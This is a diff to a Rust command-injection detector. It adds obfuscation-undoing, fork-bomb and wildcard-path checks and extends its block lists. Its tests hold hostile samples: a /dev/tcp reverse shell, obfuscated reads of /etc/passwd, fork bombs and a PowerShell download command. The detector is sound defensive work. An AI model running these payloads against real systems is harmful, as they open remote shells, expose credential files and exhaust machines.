@@ -184,6 +184,22 @@ const STRONG: &[&str] = &[
     "gdb",
     "strace",
     "ltrace",
+    "alias",
+    "iwr",
+    "iwmi",
+    "irm",
+    "iex",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "invoke-wmimethod",
+    "start-process",
+    "new-object",
+    "vi",
+    "vim",
+    "nano",
+    "c89",
+    "c99",
+    "gcc",
 ];
 
 /// Of [`STRONG`], the words that are also common English: they need a shell-style argument.
@@ -209,6 +225,126 @@ fn is_cmd(word: &str) -> Option<bool> {
 
 /// Whether `value` (already decoded) is an OS command injection.
 pub fn detect(value: &str) -> bool {
+    if detect_plain(value) || fork_bomb(value.as_bytes()) || glob_path(value) {
+        return true;
+    }
+    // what the shell makes of `c$@at`, `c${KK}url`, `/bi[n]/bash`, `c''at`
+    let unquoted = shell_expand(value);
+    unquoted != value && (detect_plain(&unquoted) || super::lfi::detect(&unquoted))
+}
+
+/// Remove what a shell removes before running a word: empty or unset expansions (`$@`, `$*`,
+/// `${X}`), single-character classes (`[n]`) and empty quotes.
+fn shell_expand(v: &str) -> String {
+    if !v.contains(['$', '[', '\'', '"']) {
+        return v.to_string();
+    }
+    let b = v.as_bytes();
+    let mut out = String::with_capacity(v.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => i += 2,
+            b'$' if b.get(i + 1) == Some(&b'{') => match b[i..].iter().position(|&c| c == b'}') {
+                Some(close)
+                    if b[i + 2..i + close]
+                        .iter()
+                        .all(|c| c.is_ascii_alphanumeric() || *c == b'_') =>
+                {
+                    i += close + 1;
+                }
+                _ => {
+                    out.push('$');
+                    i += 1;
+                }
+            },
+            b'[' if b.get(i + 2) == Some(&b']') && b[i + 1].is_ascii_alphanumeric() => {
+                out.push(char::from(b[i + 1]));
+                i += 3;
+            }
+            b'\'' | b'"' if b.get(i + 1) == Some(&b[i]) => i += 2,
+            _ => {
+                let len = v[i..].chars().next().map_or(1, char::len_utf8);
+                out.push_str(&v[i..i + len]);
+                i += len;
+            }
+        }
+    }
+    out
+}
+
+/// `:(){ :|:& };:` and its renamings: a shell function that pipes itself into itself in the
+/// background.
+fn fork_bomb(b: &[u8]) -> bool {
+    memchr::memmem::find_iter(b, b"()").any(|p| {
+        let mut n = p;
+        while n > 0 && !b[n - 1].is_ascii_whitespace() && !matches!(b[n - 1], b';' | b'{' | b'}') {
+            n -= 1;
+        }
+        let name = &b[n..p];
+        if name.is_empty() || name.len() > 16 {
+            return false;
+        }
+        let body: Vec<u8> = b[p + 2..b.len().min(p + 64)]
+            .iter()
+            .copied()
+            .filter(|c| !c.is_ascii_whitespace())
+            .collect();
+        let mut call = name.to_vec();
+        call.push(b'|');
+        call.extend_from_slice(name);
+        call.push(b'&');
+        body.first() == Some(&b'{') && memchr::memmem::find(&body, &call).is_some()
+    })
+}
+
+/// A path with shell wildcards that expands to a shell or a sensitive file
+/// (`/???/b??h`, `/bin/ca? /et*/passwd`).
+fn glob_path(v: &str) -> bool {
+    const TARGETS: &[&str] = &[
+        "/bin/bash",
+        "/bin/sh",
+        "/bin/dash",
+        "/bin/zsh",
+        "/bin/cat",
+        "/bin/nc",
+        "/usr/bin/nc",
+        "/usr/bin/wget",
+        "/usr/bin/curl",
+        "/usr/bin/id",
+        "/usr/bin/whoami",
+        "/bin/busybox",
+        "/etc/passwd",
+        "/etc/shadow",
+        "/etc/hosts",
+        "/usr/bin/python3",
+        "/usr/bin/perl",
+    ];
+    if !v.contains(['?', '*']) {
+        return false;
+    }
+    v.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | '=' | '+'))
+        .filter(|w| w.starts_with('/') && w.contains(['?', '*']) && w.len() <= 32)
+        .any(|w| {
+            TARGETS
+                .iter()
+                .any(|t| glob_match(w.as_bytes(), t.as_bytes()))
+        })
+}
+
+fn glob_match(p: &[u8], s: &[u8]) -> bool {
+    match (p.first(), s.first()) {
+        (None, None) => true,
+        (Some(b'*'), _) => {
+            glob_match(&p[1..], s) || (!s.is_empty() && s[0] != b'/' && glob_match(p, &s[1..]))
+        }
+        (Some(b'?'), Some(c)) if *c != b'/' => glob_match(&p[1..], &s[1..]),
+        (Some(a), Some(c)) if a == c => glob_match(&p[1..], &s[1..]),
+        _ => false,
+    }
+}
+
+fn detect_plain(value: &str) -> bool {
     let b = value.as_bytes();
     if MARKERS.is_match(b) {
         return true;
@@ -290,6 +426,10 @@ fn command_at(l: &[u8], mut i: usize, need_args_for_weak: bool) -> bool {
         // `'i'fconfig`, `w\hoami`: quote removal only a shell performs
         return true;
     }
+    if word == "alias" && arg.as_deref().is_some_and(|a| a.contains('=')) {
+        // `alias e=env&e whoami`: a new name for a command
+        return true;
+    }
     if PREFIXES.contains(&word.as_str()) {
         // `nohup ifconfig`, `sudo rm`: a command that runs the next word as a command
         if let Some(a) = &arg {
@@ -339,6 +479,9 @@ static MARKERS: LazyLock<AhoCorasick> = LazyLock::new(|| {
         "iex(",
         "/bin/sh -c",
         "/bin/bash -c",
+        "$shell -c",
+        "${shell} -c",
+        "$bash -c",
     ])
 });
 
@@ -493,6 +636,15 @@ mod tests {
             "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
             "nohup ifconfig",
             "ansible all -m ping",
+            "/etc/pas[s]wd",
+            "www.google.com;c$@at /et$@c/pas$@swd",
+            "alias a=c${KK}url&a google.com",
+            ":(){ :|:& };:",
+            "f(){ f|f& };f",
+            "/???/b??h",
+            "www.google.com;/bin/ca? /et*/passwd",
+            ";iwr http://example.com/path/file.ps1",
+            "$SHELL -c \"echo hi\"",
             "'i'fconfig",
             "python3.10 -c 'import os'",
             "IF %ERRORLEVEL% EQU 2 goto x",
@@ -523,6 +675,9 @@ mod tests {
             "rock & roll",
             "Q&A",
             "time is money",
+            "Is it 50% off? [y] or [n]",
+            "What's ${price}?",
+            "function f() { return a || b && c; }",
             "if you exist, call me",
             "for all of us in the team, do your best",
             "Nice to meet you",
